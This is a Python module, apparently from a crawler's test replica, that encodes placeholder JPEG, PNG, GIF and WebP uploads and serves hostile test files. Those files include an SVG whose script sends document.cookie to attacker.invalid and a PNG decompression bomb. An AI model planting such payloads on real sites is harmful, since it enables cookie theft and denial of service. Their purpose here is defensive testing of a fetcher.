"""Real picture bytes for the replica's uploads: JPEG, PNG, GIF and WebP written in pure Python, one per file and size.

Every upload URL a replica page shows answers with a small but real image whose dimensions are the ones its
name claims (`photo-300x200.jpg` is 300 by 200 pixels; an original is 1200 by 800, the `1200w` of the srcsets):
a mosaic of 8x8 blocks in one of COLOURINGS colour pairs, chosen by the file's name, so each upload looks alike
at every size. Each drawing is encoded once per type, size and colouring, and each file adds its own comment
(JPEG COM, PNG tEXt, GIF comment) naming it and its size, so no two files share bytes and a blog of 10,000
posts costs no more drawing than one of 80. Some originals carry large comment segments, as camera files carry EXIF and profiles,
so that the archive has heavy pictures to audit. Hostile files for the tests sit under HOSTILE_DIR.
"""

from __future__ import annotations

import functools
import hashlib
import random
import re
import struct
import zlib
from collections.abc import Callable, Iterable, Iterator, Sequence
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta

from crawler.replica.model import UPLOADS, Figure, Photo, Post, para

ORIGINAL_SIZE = (1200, 800)  # what the srcsets call `1200w`, in the 3:2 of the `-300x200` copies
LOGO_SIZE = (300, 100)  # the theme's logo, as its img tag sizes it
HEAVY_EVERY = 4  # about one original in HEAVY_EVERY carries padding that takes it over HEAVY_BYTES
HEAVY_BYTES = 360_000
COLOURINGS = 16  # colour pairs the uploads are drawn in, chosen by name: each drawing is encoded once per size
DEFAULT_CAP = 25 * 1024 * 1024  # the media fetcher's default per-file cap
HOSTILE_DIR = UPLOADS + "hostile/"
HOSTILE_POST_SLUG = (
    "pictures-that-went-wrong"  # the post showing the hostile uploads (build_site(hostile_pictures=True))
)
_SIZED = re.compile(r"^(?P<stem>.+?)(?:-(?P<width>\d{1,5})x(?P<height>\d{1,5}))?\.(?P<extension>[a-z]+)$")
_FOLDER_MONTH = re.compile(r"^(?P<year>\d{4})/(?P<month>\d{2})/")
_UPLOADS_EPOCH = datetime(2017, 1, 1, tzinfo=UTC)  # uploads outside a YYYY/MM folder


@dataclass(frozen=True, slots=True)
class Picture:
    """One upload's response: status, type, bytes and when the file was written."""

    status: int
    content_type: str
    body: bytes
    last_modified: datetime


# ---------------------------------------------------------------------------------------------- the encoders


class _Bits:
    """An MSB-first bit writer (JPEG's order)."""

    def __init__(self) -> None:
        self.parts: list[str] = []

    def write(self, value: int, length: int) -> None:
        if length:
            self.parts.append(format(value, f"0{length}b"))

    def to_bytes(self) -> bytes:
        bits = "".join(self.parts)
        bits += "1" * (-len(bits) % 8)  # JPEG pads the last byte with ones
        return int(bits, 2).to_bytes(len(bits) // 8, "big") if bits else b""


# ITU T.81 Annex K: the standard DC Huffman tables (code lengths 1..16, then the symbols) and the AC tables'
# end-of-block code, enough for blocks that carry only their DC coefficient.
_DC_LUMA = (bytes([0, 1, 5, 1, 1, 1, 1, 1, 1, 0, 0, 0, 0, 0, 0, 0]), bytes(range(12)))
_DC_CHROMA = (bytes([0, 3, 1, 1, 1, 1, 1, 1, 1, 1, 1, 0, 0, 0, 0, 0]), bytes(range(12)))
_AC_LUMA = (
    bytes([0, 2, 1, 3, 3, 2, 4, 3, 5, 5, 4, 4, 0, 0, 1, 0x7D]),
    bytes.fromhex(
        "01020300041105122131410613516107227114328191a1082342b1c11552d1f02433627282090a161718191a25262728292a3435"
        "363738393a434445464748494a535455565758595a636465666768696a737475767778797a838485868788898a92939495969798"
        "999aa2a3a4a5a6a7a8a9aab2b3b4b5b6b7b8b9bac2c3c4c5c6c7c8c9cad2d3d4d5d6d7d8d9dae1e2e3e4e5e6e7e8e9eaf1f2f3f4"
        "f5f6f7f8f9fa"
    ),
)
_AC_CHROMA = (
    bytes([0, 2, 1, 2, 4, 4, 3, 4, 7, 5, 4, 4, 0, 1, 2, 0x77]),
    bytes.fromhex(
        "000102031104052131061241510761711322328108144291a1b1c109233352f0156272d10a162434e125f11718191a26272829"
        "2a35363738393a434445464748494a535455565758595a636465666768696a737475767778797a82838485868788898a92939495"
        "969798999aa2a3a4a5a6a7a8a9aab2b3b4b5b6b7b8b9bac2c3c4c5c6c7c8c9cad2d3d4d5d6d7d8d9dae2e3e4e5e6e7e8e9eaf2f3"
        "f4f5f6f7f8f9fa"
    ),
)
_QUANT = 16  # every coefficient quantised by 16: DC = (level - 128) * 8 / 16, a step of 2 grey levels


def _huffman_codes(table: tuple[bytes, bytes]) -> dict[int, tuple[int, int]]:
    """Symbol -> (code, length) for a table given as counts per length and symbols (T.81 Annex C)."""
    counts, symbols = table
    codes: dict[int, tuple[int, int]] = {}
    code, index = 0, 0
    for length, count in enumerate(counts, start=1):
        for _ in range(count):
            codes[symbols[index]] = (code, length)
            code += 1
            index += 1
        code <<= 1
    return codes


def _segment(marker: int, payload: bytes) -> bytes:
    """A JPEG marker segment with its length."""
    return struct.pack(">BBH", 0xFF, marker, len(payload) + 2) + payload


def _huffman_segment(table_class: int, table_id: int, table: tuple[bytes, bytes]) -> bytes:
    return _segment(0xC4, bytes([table_class << 4 | table_id]) + table[0] + table[1])


def _magnitude(value: int) -> tuple[int, int]:
    """A DC difference as (category, its bits), T.81 F.1.2.1."""
    category = abs(value).bit_length()
    bits = value if value >= 0 else value + (1 << category) - 1
    return category, bits


def jpeg(width: int, height: int, blocks: Iterable[tuple[int, int, int]], comments: list[bytes]) -> bytes:
    """A baseline YCbCr JPEG whose 8x8 blocks are flat: `blocks` gives each one's (Y, Cb, Cr), row by row."""
    tables = [_huffman_codes(_DC_LUMA), _huffman_codes(_DC_CHROMA)]
    end_of_block = [_huffman_codes(_AC_LUMA)[0x00], _huffman_codes(_AC_CHROMA)[0x00]]
    coded: list[dict[int, str]] = [{}, {}]  # per table: DC difference -> its bits, then end of block

    def code(table: int, difference: int) -> str:
        found = coded[table].get(difference)
        if found is None:
            category, extra = _magnitude(difference)
            dc_code, dc_length = tables[table][category]
            eob_code, eob_length = end_of_block[table]
            found = format(dc_code, f"0{dc_length}b") + (format(extra, f"0{category}b") if category else "")
            found += format(eob_code, f"0{eob_length}b")
            coded[table][difference] = found
        return found

    bits = _Bits()
    transitions: dict[tuple[tuple[int, int, int], tuple[int, int, int]], str] = {}  # most blocks repeat a neighbour
    previous = (0, 0, 0)
    for levels in blocks:
        values = ((levels[0] - 128) // 2, (levels[1] - 128) // 2, (levels[2] - 128) // 2)  # 8 / _QUANT
        found = transitions.get((previous, values))
        if found is None:
            found = (
                code(0, values[0] - previous[0]) + code(1, values[1] - previous[1]) + code(1, values[2] - previous[2])
            )
            transitions[(previous, values)] = found
        bits.parts.append(found)
        previous = values
    scan = bits.to_bytes().replace(b"\xff", b"\xff\x00")
    frame = struct.pack(">BHHB", 8, height, width, 3) + bytes([1, 0x11, 0, 2, 0x11, 1, 3, 0x11, 1])
    parts = [
        b"\xff\xd8",
        _segment(0xE0, b"JFIF\x00\x01\x01\x00\x00\x48\x00\x48\x00\x00"),
        *(_segment(0xFE, comment) for comment in comments),
        _segment(0xDB, bytes([0]) + bytes([_QUANT] * 64)),
        _segment(0xDB, bytes([1]) + bytes([_QUANT] * 64)),
        _segment(0xC0, frame),
        _huffman_segment(0, 0, _DC_LUMA),
        _huffman_segment(1, 0, _AC_LUMA),
        _huffman_segment(0, 1, _DC_CHROMA),
        _huffman_segment(1, 1, _AC_CHROMA),
        _segment(0xDA, bytes([3, 1, 0x00, 2, 0x11, 3, 0x11, 0, 63, 0])),
        scan,
        b"\xff\xd9",
    ]
    return b"".join(parts)


def _chunk(kind: bytes, data: bytes) -> bytes:
    """A PNG chunk with its CRC."""
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width: int, height: int, pixel: Callable[[int, int], tuple[int, int, int]], text: bytes | None = None) -> bytes:
    """An 8-bit RGB PNG whose pixels are `pixel(x, y)`, with a tEXt comment when `text` is given."""
    rows = (b"\x00" + b"".join(bytes(pixel(x, y)) for x in range(width)) for y in range(height))
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", header)
        + (_chunk(b"tEXt", b"Comment\x00" + text) if text is not None else b"")
        + _chunk(b"IDAT", zlib.compress(b"".join(rows), 9))
        + _chunk(b"IEND", b"")
    )


def png_header_only(width: int, height: int) -> bytes:
    """A PNG whose header claims width x height over a tiny, mostly missing image: a decompression bomb's shape."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    row = b"\x00" + bytes(3 * min(width, 64))
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", zlib.compress(row * 4, 9))


def _lzw(indices: bytes, minimum_code_size: int) -> bytes:
    """GIF's variable-length LZW, codes packed LSB first; the table starts again when it is full."""
    clear, end = 1 << minimum_code_size, (1 << minimum_code_size) + 1
    codes: list[tuple[int, int]] = [(clear, minimum_code_size + 1)]  # (code, width in bits)
    table: dict[int, int] = {}  # prefix code << 8 | next index -> code
    size, next_code = minimum_code_size + 1, end + 1
    current = -1
    for index in indices:
        if current < 0:
            current = index
            continue
        key = current << 8 | index
        found = table.get(key)
        if found is not None:
            current = found
            continue
        codes.append((current, size))
        if next_code < 4096:
            table[key] = next_code
            next_code += 1
            if next_code > (1 << size) and size < 12:
                size += 1
        else:
            codes.append((clear, size))
            table.clear()
            size, next_code = minimum_code_size + 1, end + 1
        current = index
    if current >= 0:
        codes.append((current, size))
    codes.append((end, size))
    accumulator, filled = 0, 0
    for code, width in codes:
        accumulator |= code << filled
        filled += width
    return accumulator.to_bytes((filled + 7) // 8, "little")


def gif(width: int, height: int, palette: list[tuple[int, int, int]], index: Callable[[int, int], int]) -> bytes:
    """A GIF89a of up to 256 colours: `index(x, y)` picks each pixel's palette entry."""
    bits = max(2, (len(palette) - 1).bit_length())
    table = b"".join(bytes(colour) for colour in palette) + bytes(3 * ((1 << bits) - len(palette)))
    pixels = bytes(index(x, y) for y in range(height) for x in range(width))
    data = _lzw(pixels, bits)
    blocks = b"".join(bytes([len(part)]) + part for part in (data[i : i + 255] for i in range(0, len(data), 255)))
    return (
        b"GIF89a"
        + struct.pack("<HHBBB", width, height, 0x80 | (bits - 1), 0, 0)
        + table
        + b"\x2c"
        + struct.pack("<HHHHB", 0, 0, width, height, 0)
        + bytes([bits])
        + blocks
        + b"\x00\x3b"
    )


def webp(width: int, height: int, colour: tuple[int, int, int]) -> bytes:
    """A lossless WebP (VP8L) of one colour: five one-symbol prefix codes, so the pixels take no bits at all."""
    fields = [(width - 1, 14), (height - 1, 14), (0, 1), (0, 3), (0, 1), (0, 1), (0, 1)]  # no transform/cache/meta
    red, green, blue = colour
    for symbol in (green, red, blue, 255):  # green, red, blue, alpha: simple codes of one 8-bit symbol
        fields += [(1, 1), (0, 1), (1, 1), (symbol, 8)]
    fields += [(1, 1), (0, 1), (0, 1), (0, 1)]  # distance: one 1-bit symbol, 0
    accumulator, filled = 0, 0
    for value, length in fields:
        accumulator |= value << filled
        filled += length
    data = b"\x2f" + accumulator.to_bytes((filled + 7) // 8, "little")
    chunk = b"VP8L" + struct.pack("<I", len(data)) + data + b"\x00" * (len(data) % 2)
    return b"RIFF" + struct.pack("<I", 4 + len(chunk)) + b"WEBP" + chunk


# ---------------------------------------------------------------------------------------------- the uploads


def _seed(text: str) -> int:
    """A stable number from a name."""
    return int.from_bytes(hashlib.sha256(text.encode()).digest()[:8], "big")


def _palette(variant: int) -> tuple[tuple[int, int, int], tuple[int, int, int]]:
    """The two RGB colours of one of the COLOURINGS."""
    generator = random.Random(_seed(f"colouring {variant}"))
    first = (generator.randrange(40, 200), generator.randrange(60, 210), generator.randrange(60, 220))
    second = (generator.randrange(120, 250), generator.randrange(100, 240), generator.randrange(30, 200))
    return first, second


def _colouring(stem: str, again: bool) -> int:
    """Which of the COLOURINGS an upload is drawn in, from its name; a re-upload always in another one."""
    variant = _seed(stem) % COLOURINGS
    return (variant + COLOURINGS // 2) % COLOURINGS if again else variant


def _ycbcr(rgb: tuple[int, int, int]) -> tuple[int, int, int]:
    """JFIF's RGB -> YCbCr."""
    red, green, blue = rgb
    luma = 0.299 * red + 0.587 * green + 0.114 * blue
    return round(luma), round(128 + (blue - luma) * 0.564), round(128 + (red - luma) * 0.713)


def _blend(first: tuple[int, int, int], second: tuple[int, int, int], share: float) -> tuple[int, int, int]:
    r, g, b = (round(a + (z - a) * share) for a, z in zip(first, second, strict=True))
    return r, g, b


DISC = 33  # a layout's shade for the disc; 0 to 32 are the steps of the gradient


def _shade(width: int, height: int, x: int, y: int) -> int:
    """Which of the 34 shades the pixel (x, y) of a width x height picture takes: the same drawing at any size."""
    dx, dy = 2 * x - width, 2 * y - height
    if dx * dx + dy * dy < 0.16 * width * width:
        return DISC
    return (x * height + y * width) * 32 // (2 * width * height)


@functools.lru_cache(maxsize=32)
def _block_layout(width: int, height: int) -> tuple[int, ...]:
    """Each 8x8 block's shade, row by row, for a picture of this size (every upload of that size shares it)."""
    return tuple(
        _shade(width, height, block_x * 8 + 4, block_y * 8 + 4)
        for block_y in range((height + 7) // 8)
        for block_x in range((width + 7) // 8)
    )


def _shades(variant: int) -> list[tuple[int, int, int]]:
    """A colouring's 34 RGB shades: a gradient between its two colours, then the disc's."""
    first, second = _palette(variant)
    return [*(_blend(first, second, step / 32) for step in range(33)), _blend(second, first, 0.3)]


@functools.lru_cache(maxsize=512)
def _drawing(extension: str, width: int, height: int, variant: int) -> tuple[str, bytes] | None:
    """(content type, bytes) of the drawing at width x height in one colouring, with no comment: encoded once and
    shared by every upload of that type, size and colouring, each of which adds its own comment (`_labelled`)."""
    shades = _shades(variant)
    if extension in ("jpg", "jpeg"):
        converted = [_ycbcr(rgb) for rgb in shades]
        return "image/jpeg", jpeg(width, height, (converted[shade] for shade in _block_layout(width, height)), [])
    if extension == "png":
        return "image/png", png(width, height, lambda x, y: shades[_shade(width, height, x, y)], None)
    if extension == "gif":
        return "image/gif", gif(width, height, shades, lambda x, y: _shade(width, height, x, y))
    if extension == "webp":
        return "image/webp", webp(width, height, _palette(variant)[0])
    return None


def _labelled(content_type: str, drawing: bytes, comments: list[bytes]) -> bytes:
    """A drawing with the file's own comments in its format's comment block (JPEG COM after the JFIF header, PNG
    tEXt after IHDR, a GIF comment extension before the image); WebP, one colour per upload, keeps none."""
    if content_type == "image/jpeg":
        after_app0 = 4 + int.from_bytes(drawing[4:6], "big")
        return drawing[:after_app0] + b"".join(_segment(0xFE, comment) for comment in comments) + drawing[after_app0:]
    if content_type == "image/png":
        after_ihdr = 8 + 25
        texts = b"".join(_chunk(b"tEXt", b"Comment\x00" + comment) for comment in comments)
        return drawing[:after_ihdr] + texts + drawing[after_ihdr:]
    if content_type == "image/gif":
        flags = drawing[10]
        after_table = 13 + (3 << ((flags & 0x07) + 1) if flags & 0x80 else 0)
        return drawing[:after_table] + b"".join(_gif_comment(comment) for comment in comments) + drawing[after_table:]
    return drawing


def _gif_comment(text: bytes) -> bytes:
    """A GIF89a comment extension: the text in sub-blocks of up to 255 bytes."""
    blocks = b"".join(bytes([len(part)]) + part for part in (text[i : i + 255] for i in range(0, len(text), 255)))
    return b"\x21\xfe" + blocks + b"\x00"


def is_heavy(file: str) -> bool:
    """Whether this original carries padding that takes it over HEAVY_BYTES (about one in HEAVY_EVERY)."""
    return _seed("heavy:" + file) % HEAVY_EVERY == 0


def is_replaced(file: str, replaced: frozenset[str]) -> bool:
    """Whether this upload, at any of its sizes, is one of the `replaced` originals (files under UPLOADS)."""
    parsed = _SIZED.match(file)
    return parsed is not None and f"{parsed['stem']}.{parsed['extension']}" in replaced


def picture_bytes(
    file: str, width: int, height: int, original: bool, replaced: frozenset[str] = frozenset()
) -> tuple[str, bytes] | None:
    """(content type, bytes) of the upload `file` (under UPLOADS) drawn at width x height, re-drawn when it is one
    of the `replaced` uploads; None for other types.

    The drawing is shared by every upload of its type, size and colouring (encoded once, `_drawing`); the file's
    own comment, naming it and its size, makes its bytes its own.
    """
    parsed = _SIZED.match(file)
    if parsed is None:
        return None
    again = is_replaced(file, replaced)
    drawn = _drawing(parsed["extension"], width, height, _colouring(parsed["stem"], again))
    if drawn is None:
        return None
    content_type, drawing = drawn
    comments = [f"replica upload {file} {width}x{height}{' re-uploaded' if again else ''}".encode()]
    if original and is_heavy(file) and content_type == "image/jpeg":
        padding = random.Random(_seed(file)).randbytes(HEAVY_BYTES)
        comments += [padding[i : i + 65_000] for i in range(0, len(padding), 65_000)]
    return content_type, _labelled(content_type, drawing, comments)


def _dimensions(file: str) -> tuple[int, int, bool] | None:
    """(width, height, is the original) that an upload's name claims."""
    parsed = _SIZED.match(file)
    if parsed is None:
        return None
    if parsed["width"]:
        width, height = int(parsed["width"]), int(parsed["height"])
        return (width, height, False) if 0 < width <= 4000 and 0 < height <= 4000 else None
    width, height = LOGO_SIZE if "logo" in parsed["stem"] else ORIGINAL_SIZE
    return width, height, True


def _written(file: str) -> datetime:
    """When WordPress wrote the upload: the first of its YYYY/MM folder's month."""
    folder = _FOLDER_MONTH.match(file)
    if folder is None:
        return _UPLOADS_EPOCH
    return datetime(int(folder["year"]), int(folder["month"]), 1, 9, 30, tzinfo=UTC)


# When an upload is replaced in place, under the same name and sizes (a media-replace plugin does that; WordPress
# itself never does): new bytes at the same URLs, a newer Last-Modified and ETag. Edition 2 replaces one.
REPLACED_AT = datetime(2025, 6, 2, 9, 30, tzinfo=UTC)

# ---------------------------------------------------------------------------------------------- hostile files

NOT_AN_IMAGE = b"<!DOCTYPE html>\n<html><head><title>Error</title></head><body><h1>Upload missing</h1></body></html>\n"
SCRIPTED_SVG = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<svg xmlns="http://www.w3.org/2000/svg" width="120" height="80" viewBox="0 0 120 80">'
    b'<script>document.location="https://attacker.invalid/?c="+document.cookie</script>'
    b'<rect width="120" height="80" fill="#3a7"/></svg>\n'
)
BOMB_SIZE = (50_000, 50_000)


def _oversized() -> bytes:
    """A JPEG one mebibyte over the fetcher's default cap (a real header, then a long comment run)."""
    head = jpeg(8, 8, [(128, 128, 128)], [b"replica upload over the cap"])
    padding = random.Random(25).randbytes(DEFAULT_CAP + 1024 * 1024)
    comments = b"".join(_segment(0xFE, padding[i : i + 65_000]) for i in range(0, len(padding), 65_000))
    return head[:2] + comments + head[2:]


HOSTILE: dict[str, tuple[int, str, Callable[[], bytes]]] = {  # file name -> status, declared type, body
    "missing.jpg": (404, "text/html; charset=UTF-8", lambda: NOT_AN_IMAGE),
    "over-the-cap.jpg": (200, "image/jpeg", _oversized),
    "error-page.jpg": (200, "image/jpeg", lambda: NOT_AN_IMAGE),
    "scripted.svg": (200, "image/svg+xml", lambda: SCRIPTED_SVG),
    "bomb.png": (200, "image/png", lambda: png_header_only(*BOMB_SIZE)),
}


def hostile_urls(base: str) -> Iterator[str]:
    """The hostile uploads' URLs on the replica served at `base`."""
    return (base + HOSTILE_DIR + name for name in HOSTILE)


def hostile_case(name: str) -> tuple[int, str, Callable[[], bytes]] | None:
    """The hostile upload a file name under HOSTILE_DIR names, at any of its sizes ("bomb-300x200.png" is "bomb.png")."""
    parsed = _SIZED.match(name)
    return HOSTILE.get(f"{parsed['stem']}.{parsed['extension']}" if parsed else name)


def hostile_post(posts: Sequence[Post]) -> Post:
    """A post showing every hostile upload in its body, dated just after the newest of `posts`, its author's."""
    newest = max(posts, key=lambda post: post.published)
    figures = tuple(Figure(Photo(f"hostile/{name}", f"Hostile case {name}")) for name in HOSTILE)
    return Post(
        wp_id=max(post.wp_id for post in posts) + 1,
        slug=HOSTILE_POST_SLUG,
        title="Pictures that went wrong",
        published=newest.published + timedelta(hours=1),
        modified=newest.published + timedelta(hours=1),
        author=newest.author,
        categories=newest.categories,
        tags=(),
        featured=None,
        body=(para("Each picture below is a file the web server gets wrong in its own way."), *figures),
        related=(),
    )


def upload(path: str, replaced: frozenset[str] = frozenset()) -> Picture | None:
    """The response for a path under UPLOADS: a picture (re-drawn if it is one of the `replaced` uploads), a hostile
    case, or None when no such upload exists."""
    if not path.startswith(UPLOADS):
        return None
    file = path.removeprefix(UPLOADS)
    if path.startswith(HOSTILE_DIR):
        found = hostile_case(path.removeprefix(HOSTILE_DIR))
        if found is None:
            return None
        status, content_type, render = found
        return Picture(status, content_type, render(), _UPLOADS_EPOCH)
    claimed = _dimensions(file)
    if claimed is None:
        return None
    width, height, original = claimed
    drawn = picture_bytes(file, width, height, original, replaced)
    if drawn is None:
        return None
    content_type, body = drawn
    return Picture(200, content_type, body, REPLACED_AT if is_replaced(file, replaced) else _written(file))
